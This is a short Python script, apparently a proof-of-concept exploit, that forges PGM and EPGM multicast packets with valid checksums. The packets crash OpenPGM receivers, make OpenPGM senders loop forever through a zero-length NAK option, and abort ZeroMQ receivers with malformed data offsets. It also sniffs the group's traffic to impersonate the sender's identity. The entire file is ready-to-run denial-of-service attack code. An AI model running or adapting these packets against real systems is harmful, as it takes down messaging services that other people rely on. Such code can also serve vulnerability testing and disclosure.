"""Sends one forged PGM packet with a valid checksum: `pgm_forger.py pgm|epgm VICTIM ADDRESS GROUP PORT`, from the interface with
this address. VICTIM is `receiver`, whose OpenPGM aborts on options that do not begin with their length; `sender`, whose OpenPGM
walks an option of length 0 for ever (what names the sender is taken from what it sends); or `zeromq`, any ZeroMQ that receives,
which aborts on data that says its first message lies behind its end, on a single byte, and (epgm) on none."""

import socket
import struct
import sys

IP_PROTOCOL_PGM, UDP = 113, 17
ODATA, NAK = 4, 8
OPTIONS_PRESENT = 1
DEADLINE_S = 40


def checksum(content):
    content += bytes(len(content) % 2)
    total = sum(struct.unpack(f"!{len(content) // 2}H", content))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def pgm(source_port, port, kind, options, source, data_size, rest):
    def header(sum_of_it):
        return struct.pack("!HHBBH6sH", source_port, port, kind, options, sum_of_it, source, data_size)

    return header(checksum(header(0) + rest)) + rest


def data_of_a_stranger(port, number, options, data):
    return pgm(1234, port, ODATA, options, b"forged", len(data), struct.pack("!II", number, 1) + data)


def nak_with_an_endless_option(sender, group, port):
    address, source_port, source = sender
    nla = b"".join(struct.pack("!HH4s", 1, 0, socket.inet_aton(of)) for of in (address, group))
    options = struct.pack("!BBH", 0, 4, 8) + bytes([1, 0, 0, 0])
    return pgm(port, source_port, NAK, OPTIONS_PRESENT, source, 0, struct.pack("!I", 0) + nla + options)


def listen_to_sender(group, port):
    """Its address, port and identity, from what arrives for the group."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800)) as line:
        line.settimeout(DEADLINE_S)
        while True:
            packet = line.recv(1 << 16)
            body = packet[(packet[0] & 15) * 4 + (8 if packet[9] == UDP else 0):]
            if packet[16:20] != socket.inet_aton(group) or len(body) < 16:
                continue
            source_port, to, kind = struct.unpack("!HHB", body[:5])
            if to == port and kind == ODATA and body[8:14] != b"forged":
                return socket.inet_ntoa(packet[12:16]), source_port, body[8:14]


def main(scheme, victim, address, group, port):
    to = group
    if victim == "receiver":
        packets = [data_of_a_stranger(port, 1, OPTIONS_PRESENT, bytes([1, 4, 0, 8, 0x81, 4, 0, 0]))]
    elif victim == "zeromq":
        packets = [data_of_a_stranger(port, 1, 0, b"\x70\x00ab"), data_of_a_stranger(port, 2, 0, b"a"), b""]
    else:
        sender = listen_to_sender(group, port)
        packets, to = [nak_with_an_endless_option(sender, group, port)], sender[0]
    kind = (socket.SOCK_RAW, IP_PROTOCOL_PGM) if scheme == "pgm" else (socket.SOCK_DGRAM, 0)
    with socket.socket(socket.AF_INET, *kind) as line:
        line.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        for packet in packets:
            line.sendto(packet, (to, port if scheme == "epgm" else 0))


if __name__ == "__main__":
    main(*sys.argv[1:5], int(sys.argv[5]))
